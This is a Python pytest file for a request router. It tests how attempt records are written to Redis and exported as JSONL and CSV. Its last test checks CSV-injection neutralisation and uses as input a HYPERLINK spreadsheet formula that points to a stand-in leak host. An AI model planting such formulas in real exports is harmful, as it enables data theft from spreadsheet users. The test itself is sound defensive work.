"""Attempt records: rows, the buffered writer against a real Redis, export reads."""

from __future__ import annotations

import asyncio
import csv
import io
import json
import random
from collections.abc import Awaitable
from typing import Any, cast

import httpx
import msgspec
import pytest
from redis.asyncio import Redis

from support.clocks import FakeClock
from support.routers import fake_router
from support.two_providers import TWO_PROVIDERS, completion
from support.waiting import eventually
from turnout.adapters.base import Usage
from turnout.catalog import Catalog
from turnout.config import parse_config
from turnout.core.plan import RoutingSettings
from turnout.observability.records import FIELDS, RecordsObserver, RecordWriter, attempt_row
from turnout.observability.records_export import attempts, csv_lines, iso_ts, jsonl_lines, read_rows
from turnout.router import RequestInfo, Router
from turnout.state import keys, records_stream
from turnout.state.errors import StateUnavailable

CONFIG = (
    TWO_PROVIDERS
    + """\
models:
  chain:
    order: priority
    offers:
      - {provider: pa, model: m-a, input_usd_per_mtok: 1, output_usd_per_mtok: 2}
      - {provider: pb, model: m-b, input_usd_per_mtok: 3, output_usd_per_mtok: 4}
"""
)


def _upstream(request: httpx.Request) -> httpx.Response:
    if request.url.host == "pa.test":
        return httpx.Response(503, json={"error": {"message": "overloaded", "type": "server_error"}})
    return completion("m-b", usage={"prompt_tokens": 1000, "completion_tokens": 500})


def _row(i: int, org: str = "acme", ts: float = 1_700_000_000.0) -> dict[str, Any]:
    return {name: None for name in FIELDS} | {"org": org, "request_id": f"r{i}", "ts": ts + i, "attempt": 1}


async def _routed_rows(catalog: Catalog, config_policy: Any, run: int = 1) -> list[dict[str, Any]]:
    """Route one request (503, 503, fallback success) with a records observer; return the rows
    (a started and an ended row per attempt)."""
    writer = RecordWriter(Redis(), max_len=10)  # never flushed here
    clock = iter(range(100, 200))
    observer = RecordsObserver(writer, catalog, clock=lambda: float(next(clock)))
    fake = FakeClock(0.0)
    router = Router(
        catalog=catalog,
        http=httpx.AsyncClient(transport=httpx.MockTransport(_upstream)),
        observer=observer,
        sleep=fake.sleep,
        clock=fake,
        rng=random.Random(5),
        breakers=fake.breakers(catalog),
    )
    plan, view = await router.plan("chain", RoutingSettings(), config_policy)
    info = RequestInfo(
        request_id="rid", org="acme", squad=None, key="ci-bot", requested_model="chain", run=run, deadline_s=130.0
    )
    await router.route(
        {"model": "chain", "messages": []}, plan=plan, view=view, policy=config_policy, time_left_s=30, info=info
    )
    return writer.rows()


def _ended_rows(rows: list[dict[str, Any]]) -> list[dict[str, Any]]:
    """The ended rows, after checking each follows its own started row."""
    assert [r["phase"] for r in rows] == ["started", "ended"] * (len(rows) // 2)
    assert [r["attempt_id"] for r in rows[::2]] == [r["attempt_id"] for r in rows[1::2]]
    assert len({r["attempt_id"] for r in rows}) == len(rows) // 2
    return rows[1::2]


async def test_every_attempt_is_one_row_with_cost_only_on_success() -> None:
    config = parse_config(CONFIG, env={})
    rows = _ended_rows(await _routed_rows(Catalog(config), config.policy))
    assert [r["attempt"] for r in rows] == [1, 2, 3]
    extra = {"role", "delay_before_s", "delay_reason", "phase", "run", "should_retry", "considered", "ttft_ms"}
    assert all(set(r) == set(FIELDS) | extra for r in rows)
    assert not any(r["is_rerun"] or r["lost"] for r in rows)
    assert (rows[0]["role"], rows[0]["delay_reason"]) == ("primary", None)
    first, retry, fallback = rows
    assert (first["provider"], first["served_model"], first["status"], first["kind"]) == (
        "pa",
        "m-a",
        503,
        "server_error",
    )
    assert first["class"] == "retry_then_fallback" and first["cost_usd"] == 0.0 and first["output_tokens"] == 0
    assert (first["is_retry"], retry["is_retry"], fallback["is_retry"]) == (False, True, False)
    assert (first["is_fallback"], fallback["is_fallback"]) == (False, True)
    assert fallback["kind"] == "success" and fallback["status"] == 200
    assert (fallback["input_tokens"], fallback["output_tokens"]) == (1000, 500)
    assert fallback["cost_usd"] == pytest.approx((1000 * 3 + 500 * 4) / 1e6)
    assert {r["org"] for r in rows} == {"acme"} and {r["key"] for r in rows} == {"ci-bot"}
    assert {r["requested_model"] for r in rows} == {"chain"} and rows[0]["squad"] is None
    assert [r["ts"] for r in rows] == [100.0, 101.0, 102.0]
    assert not any(r["is_byok_fallback"] or r["is_strategy"] for r in rows)
    assert "key-a" not in json.dumps(rows) and "overloaded" not in json.dumps(rows)


async def test_a_started_row_is_written_at_dispatch_with_the_outcome_unknown() -> None:
    config = parse_config(CONFIG, env={})
    rows = await _routed_rows(Catalog(config), config.policy)
    started = rows[0::2]
    assert all(
        set(r) == set(FIELDS) | {"role", "delay_before_s", "delay_reason", "phase", "run", "deadline_ts"}
        for r in started
    )
    first = started[0]
    assert (first["kind"], first["class"], first["status"], first["cost_usd"]) == ("in_flight", None, None, None)
    assert (first["provider"], first["served_model"], first["attempt"], first["deadline_ts"]) == ("pa", "m-a", 1, 130.0)
    assert [r["ts"] for r in started] == [r["ts"] for r in rows[1::2]]  # the ended row keeps the start time
    assert (started[1]["is_retry"], started[2]["is_fallback"]) == (True, True)


async def test_a_rerun_marks_its_rows_is_rerun() -> None:
    config = parse_config(CONFIG, env={})
    rows = await _routed_rows(Catalog(config), config.policy, run=2)
    assert all(r["is_rerun"] is True and r["run"] == 2 and r["lost"] is False for r in rows)


def test_failed_attempt_row_costs_nothing_even_with_usage() -> None:
    config = parse_config(CONFIG, env={})
    catalog = Catalog(config)
    from turnout.core.loop import AttemptRecord
    from turnout.core.plan import Role
    from turnout.core.types import Disposition, FailureKind

    record = AttemptRecord(
        number=1,
        target=catalog.models["chain"][0],
        role=Role.PRIMARY,
        is_retry=False,
        is_fallback=False,
        is_reroute=False,
        resend_count=0,
        cycle=1,
        kind=FailureKind.TIMEOUT,
        disposition=Disposition.FALLBACK_NOW,
        status=None,
        error_code=None,
        message="",
        retry_after_s=None,
        delay_before_s=0.0,
        delay_reason=None,
        started_s=0.0,
        duration_ms=1234.5678,
    )
    row = attempt_row(RequestInfo(request_id="x"), record, Usage(input_tokens=9, output_tokens=9), catalog, 5.0)
    assert row["cost_usd"] == 0.0 and row["input_tokens"] == 0 and row["latency_ms"] == 1234.568
    assert row["status"] is None and row["class"] == "fallback_now"
    assert row["considered"] == []
    from turnout.core.considered import Considered

    capped = Considered(provider="p", model="m", catalog_model="chain", reason="capped")
    row = attempt_row(
        RequestInfo(request_id="x"), msgspec.structs.replace(record, considered=(capped,)), Usage(), catalog, 5.0
    )
    assert row["considered"] == [
        {"provider": "p", "model": "m", "catalog_model": "chain", "reason": "capped", "reopen_in_s": None}
    ]
    assert list(json.loads(jsonl_lines([row]))) == list(FIELDS)  # exports keep their columns
    assert csv_lines([row], header=True).splitlines()[0].decode().split(",") == list(FIELDS)


async def test_flush_appends_in_batches_and_the_stream_stays_bounded(redis_client: Redis) -> None:
    writer = RecordWriter(redis_client, max_len=100, buffer_max=5000, batch_max=250)
    for i in range(1000):
        assert writer.add(_row(i))
    assert await writer.flush() == 1000 and writer.written == 1000 and len(writer) == 0
    length = await redis_client.xlen(keys.RECORDS_STREAM)
    assert 100 <= length <= 300  # `MAXLEN ~` trims whole nodes (100 entries each by default)
    last = await redis_client.xrevrange(keys.RECORDS_STREAM, count=1)
    assert json.loads(last[0][1][b"r"])["request_id"] == "r999"


async def test_a_full_buffer_drops_and_counts(redis_client: Redis) -> None:
    drops: list[int] = []
    writer = RecordWriter(redis_client, max_len=100, buffer_max=5, on_drop=drops.append)
    results = [writer.add(_row(i)) for i in range(8)]
    assert results == [True] * 5 + [False] * 3
    assert writer.dropped == 3 and sum(drops) == 3
    assert await writer.flush() == 5
    assert await redis_client.xlen(keys.RECORDS_STREAM) == 5


async def test_background_flush_writes_without_being_asked(redis_client: Redis) -> None:
    writer = RecordWriter(redis_client, max_len=100, flush_interval_s=0.02)
    writer.start()
    try:
        writer.add(_row(1))

        async def written() -> bool:
            return await cast(Awaitable[int], redis_client.xlen(keys.RECORDS_STREAM)) == 1

        await eventually(written)  # nobody called flush()
    finally:
        await writer.stop()


async def test_stop_flushes_what_is_buffered(redis_client: Redis) -> None:
    writer = RecordWriter(redis_client, max_len=100, flush_interval_s=60)
    writer.start()
    for i in range(3):
        writer.add(_row(i))
    await writer.stop()
    assert await redis_client.xlen(keys.RECORDS_STREAM) == 3


async def test_redis_down_keeps_rows_buffered_up_to_the_bound() -> None:
    down = Redis(host="127.0.0.1", port=1, socket_connect_timeout=0.2)
    writer = RecordWriter(down, max_len=100, buffer_max=10, batch_max=4)
    for i in range(6):
        writer.add(_row(i))
    assert await writer.flush() == 0
    assert len(writer) == 6 and writer.dropped == 0
    await down.aclose()


async def test_read_rows_returns_one_org_in_its_time_window_across_pages(redis_client: Redis) -> None:
    writer = RecordWriter(redis_client, max_len=1000)
    for i in range(10):
        writer.add(_row(i, org="acme" if i % 2 == 0 else "globex", ts=1_700_000_000.0))
    await writer.flush()
    acme = [r async for r in read_rows(redis_client, org="acme", page_size=3)]
    assert [r["request_id"] for r in acme] == ["r0", "r2", "r4", "r6", "r8"]
    window = [
        r
        async for r in read_rows(
            redis_client, org="globex", since_s=1_700_000_003.0, until_s=1_700_000_007.0, page_size=2
        )
    ]
    assert [r["request_id"] for r in window] == ["r3", "r5", "r7"]
    assert [r async for r in read_rows(redis_client, org="nobody")] == []


def test_exports_render_fields_in_order_with_iso_times() -> None:
    row = _row(0) | {"is_retry": True, "is_fallback": False, "cost_usd": 0.5, "status": None}
    line = json.loads(jsonl_lines([row]))
    assert list(line) == list(FIELDS) and line["ts"] == "2023-11-14T22:13:20.000Z"
    parsed = list(csv.DictReader(io.StringIO(csv_lines([row], header=True).decode())))
    assert parsed[0]["is_retry"] == "true" and parsed[0]["is_fallback"] == "false" and parsed[0]["status"] == ""
    assert list(parsed[0]) == list(FIELDS)
    assert iso_ts(0.5) == "1970-01-01T00:00:00.500Z"


def _phase_row(i: int, phase: str, run: int = 1, request_id: str = "job-1") -> dict[str, Any]:
    return _row(i) | {
        "request_id": request_id,
        "attempt_id": f"a{i}",
        "phase": phase,
        "run": run,
        "is_rerun": run > 1,
        "lost": False,
        "deadline_ts": 1_700_000_030.0,
    }


async def test_started_rows_stay_open_until_their_end_is_written(redis_client: Redis) -> None:
    await redis_client.delete(keys.RECORDS_STREAM, keys.open_attempts_key("job-1"))
    writer = RecordWriter(redis_client, max_len=100)
    writer.start()
    try:
        written = writer.add_started(_phase_row(1, "started"))
        assert await writer.settle(written, timeout_s=10) is True
        assert await redis_client.hkeys(keys.open_attempts_key("job-1")) == [b"a1"]  # type: ignore[misc]
        assert await redis_client.xlen(keys.RECORDS_STREAM) == 1
        writer.add(_phase_row(1, "ended"))
        await writer.flush()
        assert await redis_client.exists(keys.open_attempts_key("job-1")) == 0
        assert await redis_client.xlen(keys.RECORDS_STREAM) == 2
    finally:
        await writer.stop()


async def test_a_writer_whose_attempts_never_rerun_only_appends(redis_client: Redis) -> None:
    """The ingress's writer (`RoleShape.reruns` false: its streams never run again) appends each row
    and keeps no open-attempts hash, one command a row instead of 2 or 3 (issue: Performance)."""
    from turnout.runtime import ROLES

    assert (ROLES["ingress"].reruns, ROLES["worker"].reruns) == (False, True)
    await redis_client.delete(keys.RECORDS_STREAM, keys.open_attempts_key("job-1"))
    writer = RecordWriter(redis_client, max_len=100, open_attempts=False)
    writer.add(_phase_row(1, "started"))
    await writer.flush()
    assert await redis_client.exists(keys.open_attempts_key("job-1")) == 0
    writer.add(_phase_row(1, "ended"))
    await writer.flush()
    assert await redis_client.xlen(keys.RECORDS_STREAM) == 2


async def test_settle_does_not_wait_without_a_flusher_or_while_redis_fails() -> None:
    writer = RecordWriter(Redis(port=1, socket_connect_timeout=0.2), max_len=10)
    written = writer.add_started(_phase_row(1, "started"))
    assert await writer.settle(written, timeout_s=3600) is False  # no flusher running: nothing to wait for
    assert await writer.flush() == 0 and writer.failing is True
    writer.start()
    try:
        assert await writer.settle(writer.add_started(_phase_row(2, "started")), timeout_s=3600) is False
    finally:
        await writer.stop(timeout_s=0.5)


async def test_a_started_row_is_waited_for_until_it_is_sent_not_until_redis_answers(
    redis_client: Redis, redis_url: str
) -> None:
    """The attempt calls its upstream once its started row is written to Redis's
    connection; the reply is read meanwhile. Redis is held with `CLIENT PAUSE`
    (scripts wait), so the row is sent and not yet stored when the wait ends."""
    writer = RecordWriter(redis_client, max_len=100)
    writer.start()
    admin = Redis.from_url(redis_url)
    await admin.execute_command("CLIENT", "PAUSE", 3_600_000, "WRITE")
    try:
        written = writer.add_started(_phase_row(1, "started"))
        assert written is not None
        async with asyncio.timeout(60):  # a bound against a hang, never reached when the wait ends at the send
            assert await writer.settle(written, timeout_s=3600) is True
        assert (written.sent, written.stored) == (True, False)
        assert await admin.xlen(keys.RECORDS_STREAM) == 0  # reads are served while paused: the row is not in yet
    finally:
        await admin.execute_command("CLIENT", "UNPAUSE")
    try:
        await eventually(lambda: written.stored)
        assert await redis_client.hkeys(keys.open_attempts_key("job-1")) == [b"a1"]  # type: ignore[misc]
        assert writer.failing is False
    finally:
        await admin.aclose()
        await writer.stop()


async def test_an_append_tells_when_it_is_sent_also_when_redis_lost_the_script(redis_client: Redis) -> None:
    """`on_sent` fires once per append, between the send and the reply; after
    `SCRIPT FLUSH` (a restarted Redis) the script itself follows and the rows
    are in; a connection that cannot be made never calls it."""
    entry = records_stream.Entry(org="acme", raw=b"{}", request_id="job-1", attempt_id="a1", started=True)
    for flushed in (True, False):
        if flushed:
            await redis_client.script_flush()
        sent: list[int] = []
        await records_stream.append(redis_client, [entry], max_len=100, open_ttl_s=60, on_sent=lambda: sent.append(1))
        assert sent == [1]
    assert await redis_client.xlen(keys.RECORDS_STREAM) == 2
    assert await redis_client.hkeys(keys.open_attempts_key("job-1")) == [b"a1"]  # type: ignore[misc]
    nowhere = Redis(port=1, socket_connect_timeout=0.2)
    with pytest.raises(StateUnavailable):
        await records_stream.append(nowhere, [entry], max_len=100, open_ttl_s=60, on_sent=lambda: sent.append(2))
    assert sent == [1]
    await nowhere.aclose()


async def test_a_flush_redis_refuses_ends_the_started_rows_wait_at_once() -> None:
    writer = RecordWriter(Redis(port=1, socket_connect_timeout=0.2), max_len=10)
    writer.start()
    try:
        written = writer.add_started(_phase_row(1, "started"))
        async with asyncio.timeout(60):  # the wait's own bound is an hour: only the failed flush ends it
            assert await writer.settle(written, timeout_s=3600) is False
        assert written is not None and (written.sent, written.stored) == (False, False)
        assert writer.failing is True and writer.rows() == [_phase_row(1, "started")]  # kept for the next flush
    finally:
        await writer.stop(timeout_s=0.5)


async def test_a_rerun_writes_the_dead_runs_open_attempts_as_lost(redis_client: Redis) -> None:
    await redis_client.delete(keys.RECORDS_STREAM, keys.open_attempts_key("job-1"))
    writer = RecordWriter(redis_client, max_len=100)
    for i in (1, 2):
        writer.add_started(_phase_row(i, "started"))
    writer.add(_phase_row(2, "ended"))
    await writer.flush()
    assert await writer.mark_lost("job-1", run=2) == 1
    assert await writer.mark_lost("job-1", run=2) == 0  # once
    assert await redis_client.exists(keys.open_attempts_key("job-1")) == 0
    rows = [r async for r in read_rows(redis_client, org="acme")]
    assert [(r["attempt_id"], r["phase"]) for r in rows] == [
        ("a1", "started"),
        ("a2", "started"),
        ("a2", "ended"),
        ("a1", "lost"),
    ]
    lost = rows[-1]
    assert (lost["kind"], lost["lost"], lost["cost_usd"], lost["is_rerun"]) == ("lost", True, None, False)
    one_each = [r async for r in attempts(read_rows(redis_client, org="acme"), now_s=0.0)]
    assert [(r["attempt_id"], r["kind"] if r["lost"] else r["phase"]) for r in one_each] == [
        ("a2", "ended"),
        ("a1", "lost"),
    ]


async def test_a_rerun_leaves_its_own_runs_attempts_open(redis_client: Redis) -> None:
    await redis_client.delete(keys.RECORDS_STREAM, keys.open_attempts_key("job-1"))
    writer = RecordWriter(redis_client, max_len=100)
    writer.add_started(_phase_row(1, "started", run=2))
    await writer.flush()
    assert await writer.mark_lost("job-1", run=2) == 0
    assert await redis_client.hkeys(keys.open_attempts_key("job-1")) == [b"a1"]  # type: ignore[misc]


async def test_the_export_shows_an_orphan_in_flight_then_lost_by_the_clock(redis_client: Redis) -> None:
    await redis_client.delete(keys.RECORDS_STREAM)
    writer = RecordWriter(redis_client, max_len=100)
    writer.add_started(_phase_row(1, "started"))
    await writer.flush()
    [early] = [r async for r in attempts(read_rows(redis_client, org="acme"), now_s=1_700_000_031.0)]
    [late] = [r async for r in attempts(read_rows(redis_client, org="acme"), now_s=1_700_000_061.0)]
    assert (early["kind"], early["lost"]) == ("in_flight", False)
    assert (late["kind"], late["lost"], late["cost_usd"]) == ("lost", True, None)
    line = json.loads(jsonl_lines([late]))
    assert (line["lost"], line["is_rerun"], line["attempt_id"]) == (True, False, "a1")


async def test_a_started_row_that_outwaits_its_bound_stops_the_waits_until_a_flush_succeeds(
    redis_client: Redis,
) -> None:
    writer = RecordWriter(redis_client, max_len=100)
    writer.start()
    try:
        pending = writer.add_started(_phase_row(1, "started"))
        assert await writer.settle(pending, timeout_s=0) is False  # not flushed yet: the bound is over at once
        assert writer.failing is True
        assert await writer.settle(writer.add_started(_phase_row(2, "started")), timeout_s=3600) is False
        await writer.flush()
        assert writer.failing is False
        assert await writer.settle(pending, timeout_s=0) is True
    finally:
        await writer.stop()


async def test_the_started_record_is_awaited_before_each_call_unless_the_health_view_is_degraded() -> None:
    from turnout.health import HealthView
    from turnout.router import NullObserver
    from turnout.state.breaker_store import Loaded

    config = parse_config(CONFIG, env={})
    catalog = Catalog(config)
    awaited: list[object] = []

    class Spy(NullObserver):
        async def attempt_dispatched(self, handle: object) -> None:
            awaited.append(handle)

    fake = FakeClock(0.0)
    router = fake_router(catalog, httpx.MockTransport(_upstream), clock=fake, observer=Spy())
    plan, view = await router.plan("chain", RoutingSettings(), config.policy)
    info = RequestInfo(request_id="rid", org="acme", requested_model="chain")
    body = {"model": "chain", "messages": []}
    await router.route(body, plan=plan, view=view, policy=config.policy, time_left_s=30, info=info)
    assert len(awaited) == 3  # one per attempt
    awaited.clear()
    degraded = HealthView(Loaded(now_s=0.0, entries={}), clock=fake, degraded=True)
    await router.route(body, plan=plan, view=degraded, policy=config.policy, time_left_s=30, info=info)
    assert awaited == []  # Redis is known unreachable: the calls do not wait for it


@pytest.mark.parametrize(
    ("value", "cell"),
    [
        ('=HYPERLINK("http://e.vil/?leak","click")', '\'=HYPERLINK("http://e.vil/?leak","click")'),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("gpt-5", "gpt-5"),
        (-1, "-1"),
    ],
    ids=["formula", "plus", "minus", "at", "tab", "cr", "plain", "negative-number"],
)
def test_a_csv_cell_that_a_spreadsheet_would_run_is_neutralised(value: object, cell: str) -> None:
    """OWASP's CSV-injection rule on every exported cell: a leading `= + - @`, tab or CR is quoted with `'`."""
    text = csv_lines([_row(0) | {"requested_model": value}], header=True).decode()
    assert next(csv.DictReader(io.StringIO(text, newline="")))["requested_model"] == cell
